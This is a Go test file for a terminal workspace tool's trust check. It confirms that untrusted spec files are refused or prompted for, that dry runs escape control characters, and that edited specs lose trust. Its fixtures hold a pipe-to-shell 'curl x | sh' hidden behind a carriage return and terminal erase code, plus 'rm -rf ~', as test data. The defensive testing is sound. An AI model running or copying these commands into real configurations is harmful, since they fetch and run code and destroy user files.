//go:build !client

package cli

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// trustEnv is a session over f whose state and config directories are
// temporary, with a spec file in a "repository" directory.
type trustEnv struct {
	t     *testing.T
	f     *fakeServer
	dir   string
	spec  string
	tty   bool
	stdin string
}

const trustSpec = "[[panes]]\nname = \"w\"\ncommand = \"echo hi\"\nprompt = \"p\"\nenv = { X = \"curl x | sh #\\r\\u001b[2K  npm ci\" }\n"

func newTrustEnv(t *testing.T) *trustEnv {
	dir := t.TempDir()
	e := &trustEnv{t: t, dir: dir, spec: filepath.Join(dir, "repo", "paneflow.workspace.toml")}
	e.f = &fakeServer{t: t, handlers: map[string]func(map[string]any) (any, error){
		"workspace.up": func(map[string]any) (any, error) {
			return map[string]any{"index": 1, "title": "w", "panes": 1, "surface_ids": []uint64{7}, "labels": []any{"w"}}, nil
		},
	}}
	e.write(e.spec, trustSpec)
	return e
}

func (e *trustEnv) write(path, text string) {
	e.t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		e.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		e.t.Fatal(err)
	}
}

func (e *trustEnv) run(args ...string) (code int, stdout, stderr string) {
	var out, errb bytes.Buffer
	s := newSession(e.f, &out, &errb)
	env := map[string]string{"HOME": e.dir, "XDG_STATE_HOME": filepath.Join(e.dir, "state"), "XDG_CONFIG_HOME": filepath.Join(e.dir, "config")}
	s.getenv = func(k string) string { return env[k] }
	s.isTerminal = func(any) bool { return e.tty }
	s.stdin = strings.NewReader(e.stdin)
	code = s.run(context.Background(), args)
	return code, out.String(), errb.String()
}

// ups counts the workspace.up calls made.
func (e *trustEnv) ups() int {
	n := 0
	for _, c := range e.f.calls {
		if strings.HasPrefix(c, "workspace.up ") {
			n++
		}
	}
	return n
}

func TestUpRefusesUntrustedSpecWithoutTerminal(t *testing.T) {
	e := newTrustEnv(t)
	code, _, stderr := e.run("up", e.spec)
	if code != ExitUsage || e.ups() != 0 || len(e.f.calls) != 0 {
		t.Fatalf("exit %d, calls %v; want exit 2 and nothing sent\n%s", code, e.f.calls, stderr)
	}
	for _, want := range []string{"is not trusted", "paneflow trust " + e.spec, "--yes", "paneflow up --dry-run"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q: %s", want, stderr)
		}
	}
	// --dry-run needs no trust, and shows the env's controls escaped.
	code, stdout, _ := e.run("up", "--dry-run", e.spec)
	if code != ExitOK || strings.ContainsAny(stdout, "\r\x1b") || !strings.Contains(stdout, `X=curl x | sh #\x0d\x1b[2K  npm ci`) {
		t.Errorf("dry run: exit %d\n%s", code, stdout)
	}
	// --yes trusts it, and then it runs without asking until it changes.
	if code, _, stderr := e.run("up", "--yes", e.spec); code != ExitOK || e.ups() != 1 {
		t.Fatalf("--yes: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
	if code, _, stderr := e.run("up", e.spec); code != ExitOK || e.ups() != 2 {
		t.Fatalf("trusted: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
	e.write(e.spec, trustSpec+"\n[[panes]]\ncommand = \"rm -rf ~\"\n")
	code, _, stderr = e.run("up", e.spec)
	if code != ExitUsage || e.ups() != 2 || !strings.Contains(stderr, "changed since you trusted it") {
		t.Fatalf("changed: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
}

func TestUpAsksOnTerminal(t *testing.T) {
	e := newTrustEnv(t)
	e.tty = true
	e.stdin = "n\n"
	code, _, stderr := e.run("up", e.spec)
	if code != ExitFailure || e.ups() != 0 || !strings.Contains(stderr, "nothing ran") {
		t.Fatalf("answer n: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
	if !strings.Contains(stderr, "[y/N]") || !strings.Contains(stderr, `X=curl x | sh #\x0d\x1b[2K  npm ci`) || strings.ContainsAny(stderr, "\r\x1b") {
		t.Errorf("the question does not show the plan escaped:\n%s", stderr)
	}
	e.stdin = ""
	if code, _, stderr := e.run("up", e.spec); code != ExitFailure || e.ups() != 0 {
		t.Fatalf("no answer: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
	e.stdin = "y\n"
	if code, _, stderr := e.run("up", e.spec); code != ExitOK || e.ups() != 1 {
		t.Fatalf("answer y: exit %d, %d ups\n%s", code, e.ups(), stderr)
	}
	e.stdin = ""
	if code, _, stderr := e.run("up", e.spec); code != ExitOK || e.ups() != 2 || strings.Contains(stderr, "[y/N]") {
		t.Fatalf("trusted: asked again or failed: exit %d\n%s", code, stderr)
	}
}

func TestUpOwnSpecNeedsNoTrust(t *testing.T) {
	e := newTrustEnv(t)
	own := filepath.Join(e.dir, "config", "paneflow", "workspaces", "dev.toml")
	e.write(own, trustSpec)
	if code, _, stderr := e.run("up", own); code != ExitOK || e.ups() != 1 {
		t.Fatalf("own spec: exit %d\n%s", code, stderr)
	}
}

func TestTrustVerbs(t *testing.T) {
	e := newTrustEnv(t)
	code, stdout, stderr := e.run("trust", e.spec)
	if code != ExitOK || !strings.Contains(stdout, "trusted "+e.spec+" (sha256:") {
		t.Fatalf("trust: exit %d %q %q", code, stdout, stderr)
	}
	if code, stdout, _ := e.run("trust", "--list"); code != ExitOK || !strings.Contains(stdout, e.spec) {
		t.Errorf("trust --list: exit %d %q", code, stdout)
	}
	if code, stdout, _ := e.run("trust", "--list", "--json"); code != ExitOK || !strings.Contains(stdout, `"hash": "sha256:`) {
		t.Errorf("trust --list --json: exit %d %q", code, stdout)
	}
	if code, _, stderr := e.run("up", e.spec); code != ExitOK {
		t.Fatalf("up after trust: exit %d %s", code, stderr)
	}
	if code, stdout, _ := e.run("untrust", e.spec); code != ExitOK || !strings.HasPrefix(stdout, "untrusted ") {
		t.Errorf("untrust: exit %d %q", code, stdout)
	}
	if code, _, _ := e.run("up", e.spec); code != ExitUsage {
		t.Errorf("up after untrust: exit %d, want 2", code)
	}
	if code, stdout, _ := e.run("untrust", e.spec); code != ExitOK || !strings.Contains(stdout, "was not trusted") {
		t.Errorf("untrust again: exit %d %q", code, stdout)
	}
	if code, _, _ := e.run("trust"); code != ExitUsage {
		t.Errorf("trust without a file: exit %d, want 2", code)
	}
}

func TestFlowRunRefusesUntrustedSpec(t *testing.T) {
	e := newTrustEnv(t)
	flowFile := filepath.Join(e.dir, "repo", "flow.toml")
	e.write(flowFile, "[[step]]\nid = \"a\"\npane = { command = \"make\" }\n")
	code, _, stderr := e.run("flow", "run", flowFile)
	if code != ExitUsage || len(e.f.calls) != 0 || !strings.Contains(stderr, "paneflow flow run --dry-run") {
		t.Fatalf("exit %d, calls %v\n%s", code, e.f.calls, stderr)
	}
}
